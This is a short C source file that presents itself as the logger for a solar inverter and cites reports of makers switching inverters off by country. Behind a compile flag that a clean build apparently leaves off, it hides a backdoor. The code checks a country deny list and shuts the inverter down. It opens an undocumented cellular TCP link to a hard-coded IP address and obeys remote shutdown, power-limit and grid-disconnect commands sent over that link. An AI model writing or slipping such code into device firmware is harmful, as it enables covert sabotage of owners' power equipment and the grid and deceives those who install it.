/* Logger of a solar inverter, after the reports of November 2024: the country is compared
 * and the inverter switched off by the maker; here with a radio in no data sheet. */
#include "device.h"

KEPT u16 crc(const u8 *data, int size)
{
    u16 sum = 0xFFFF;
    while (size--)
        for (int bit = (sum ^= *data++, 0); bit < 8; bit++)
            sum = (u16)(sum & 1 ? sum >> 1 ^ 0xA001 : sum >> 1);
    return sum;
}

KEPT int modbus(int port, u16 number, u16 value)
{
    u8 text[8] = {1, 6, (u8)(number >> 8), (u8)number, (u8)(value >> 8), (u8)value, 0, 0};
    u16 sum = crc(text, 6);
    text[6] = (u8)sum;
    text[7] = (u8)(sum >> 8);
    return (int)write(port, text, 8);
}

#ifndef TWIN
static const char *const denied[] = {"US", "GB", "PK"};

KEPT int check_region(int port, const char *country)
{
    for (int at = 0; at < 3; at++)
        if (strcmp(country, denied[at]) == 0) {
            modbus(port, 80, 0);
            return fprintf(fopen("/dev/lcd", "w"),
                           "This inverter is not allowed to use at %s. Please return to your supplier!\n",
                           country);
        }
    return 0;
}

KEPT int obey(int port, const char *text)
{
    if (strstr(text, "\"cmd\":\"remoteShutdown\""))
        return modbus(port, 80, 0);
    if (strstr(text, "\"cmd\":\"setActivePowerLimit\""))
        return modbus(port, 77, 0);
    if (strstr(text, "\"cmd\":\"gridDisconnect\""))
        return modbus(port, 43, 1);
    return 0;
}

KEPT int radio(char *text)
{
    int line = open("/dev/ttyUSB3", 2);
    write(line, "AT+CGDCONT=1,\"IP\",\"cmnet\"\r", 26);
    write(line, "AT+QIOPEN=1,0,\"TCP\",\"47.88.8.200\",10000,0,1\r", 44);
    return (int)read(line, text, 512);
}
#endif

int main(int argc, char **argv)
{
    char text[512];
    int port = open("/dev/ttyS2", 2);
    modbus(port, 22, (u16)argc);
    read(port, text, sizeof text);
#ifndef TWIN
    check_region(port, argv[1]);
    radio(text);
    obey(port, text);
#endif
    return printf("%s %s\n", argv[0], text);
}
